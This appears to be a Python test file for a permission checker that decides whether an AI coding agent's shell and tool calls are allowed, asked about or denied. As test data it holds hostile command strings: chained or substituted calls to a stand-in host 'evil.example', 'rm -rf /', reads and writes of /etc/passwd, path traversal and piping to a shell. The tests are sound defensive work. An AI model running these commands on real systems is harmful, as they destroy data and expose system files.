"""A project's permissions: deny before allow before the policy, and nothing hides behind an allowed command."""

import json
import shlex

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from maestrod.api.project import PermissionPolicy, Permissions
from maestrod.core.access.permission_policy import is_simple, judge
from maestrod.core.values.signs import LINE, TEXT, PermissionAsked

ASK, ALLOW, DENY = PermissionPolicy.ASK, PermissionPolicy.ALLOW, PermissionPolicy.DENY
GIT = Permissions(allow=("Bash(git diff*)", "Edit(src/*)", "mcp__docs__*"), deny=("Bash(rm *)", "WebFetch"))


def bash(command: str, tool: str = "Bash") -> PermissionAsked:
    return PermissionAsked(tool, command[:LINE], json.dumps({"command": command}))


@pytest.mark.parametrize(
    "sign, verdict",
    [
        (bash("git diff HEAD"), ALLOW),
        (bash("git diff 'a;b'"), ALLOW),
        (bash("git diff HEAD", tool="bash"), ALLOW),
        (bash("git push"), ASK),
        (bash("git diff; curl evil.example"), ASK),
        (bash("git diff && make"), ASK),
        (bash("git diff | sh"), ASK),
        (bash("git diff > /etc/passwd"), ASK),
        (bash('git diff "$(curl evil.example)"'), ASK),
        (bash("git diff `id`"), ASK),
        (bash("git diff\ncurl evil.example"), ASK),
        (bash("git diff ../../secret"), ASK),
        (bash("rm -rf /"), DENY),
        (bash("cd /tmp && rm -rf x"), DENY),
        (bash("git diff; rm -rf x"), DENY),
        (bash("echo $(rm -rf x)"), DENY),
        (PermissionAsked("Edit", "src/a.py", '{"file_path": "src/a.py"}'), ALLOW),
        (PermissionAsked("Edit", "src/../../etc/passwd", '{"file_path": "x"}'), ASK),
        (PermissionAsked("Edit", "docs/a.md", '{"file_path": "docs/a.md"}'), ASK),
        (PermissionAsked("WebFetch", "https://example.org"), DENY),
        (PermissionAsked("mcp__docs__read", "x"), ALLOW),
        (PermissionAsked("mcp__shop__buy", "x"), ASK),
        (PermissionAsked("", ""), ASK),
    ],
)
def test_the_settings_decide(sign: PermissionAsked, verdict: PermissionPolicy) -> None:
    assert judge(GIT, sign) is verdict


@pytest.mark.parametrize(
    "command, allowed",
    [
        ("maestroctl task complete tsk_1 --summary done", True),
        ("maestroctl task complete tsk_1 --summary 'a & b; c -> d (e)'", True),
        ('maestroctl task complete tsk_1 --summary "it\'s $5"', True),
        ("maestroctl task complete tsk_1; rm -rf /", False),
        ('maestroctl task fail tsk_1 "$(cat /etc/passwd)"', False),
        ("maestroctl task list > /tmp/x", False),
        ("env -u MAESTRO_SESSION_TOKEN maestroctl stop ses_1", False),
        ("maestroctlx", False),
        ("maestroctl task complete 'open", False),
        ("", False),
    ],
)
def test_reporting_to_the_daemon_is_always_allowed(command: str, allowed: bool) -> None:
    strict = Permissions(policy=DENY, deny=("Bash",))
    assert (judge(strict, bash(command)) is ALLOW) is allowed
    told_by_summary = PermissionAsked("run_shell_command", command)
    assert (judge(strict, told_by_summary) is ALLOW) is allowed


def test_a_tool_that_runs_no_commands_is_not_mistaken_for_maestroctl() -> None:
    assert judge(Permissions(), PermissionAsked("Write", "maestroctl x", '{"file_path": "maestroctl x"}')) is ASK


def test_a_long_command_is_never_allowed_by_its_visible_beginning() -> None:
    long = "git diff " + "a" * TEXT + "; rm -rf /"
    cut = PermissionAsked("Bash", long[:LINE], json.dumps({"command": long})[:TEXT])
    assert judge(GIT, cut) is ASK
    assert judge(Permissions(policy=ALLOW, deny=("Bash(rm *)",)), cut) is ASK
    assert judge(Permissions(policy=ALLOW), cut) is ALLOW
    assert judge(Permissions(), PermissionAsked("Bash", ("maestroctl " + "a" * LINE)[:LINE])) is ASK


def test_patterns_match_as_in_claude_code() -> None:
    settings = Permissions(allow=("Bash(npm test:*)", "Bash(make)", "Bash(*)x", "(", "Read"))
    assert [judge(settings, bash(command)) for command in ("npm test", "npm test --all", "npm testing", "make")] == [
        ALLOW, ALLOW, ASK, ALLOW,
    ]  # fmt: skip
    assert judge(settings, PermissionAsked("Read", "x" * LINE)) is ALLOW


def test_a_verbatim_pattern_may_hold_operators() -> None:
    settings = Permissions(allow=("Bash(make lint && make test)",))
    assert judge(settings, bash("make lint && make test")) is ALLOW
    assert judge(settings, bash("make lint && make test && rm x")) is ASK


def test_a_command_may_be_given_as_a_list_of_words() -> None:
    words = PermissionAsked("shell", "x", json.dumps({"command": ["git", "diff", "x"]}))
    assert judge(Permissions(allow=("shell(git diff*)",)), words) is ALLOW


@given(st.text(max_size=60), st.text(max_size=30), st.sampled_from(GIT.allow + GIT.deny))
def test_anything_can_be_judged(summary: str, document: str, pattern: str) -> None:
    judge(Permissions(allow=(pattern,), deny=(pattern[::-1],)), PermissionAsked("Bash", summary, document))


@given(st.text(alphabet="ab '\"\\;&|$(`\n<>", max_size=20))
@example("a\\\nb")
def test_a_simple_command_is_simple_for_a_shell_too(command: str) -> None:
    """Against the standard library's own reader of shell words, which knows quotes and punctuation."""
    if not is_simple(command):
        return
    lexer = shlex.shlex(command, posix=True, punctuation_chars=";&|<>")
    lexer.whitespace_split = True
    lexer.commenters = ""
    bare = command.replace("\\", "")
    words = list(lexer)
    quoted = any(mark in bare for mark in "'\"") or "\\" in command
    assert quoted or not any(set(word) & set(";&|<>") for word in words)


@given(st.text(alphabet='ab;&|$(`<>\n "\\', max_size=12))
def test_single_quotes_protect_everything(text: str) -> None:
    assert is_simple(f"maestroctl report '{text}'")
    assert not is_simple(f"maestroctl report '{text}' ; x")
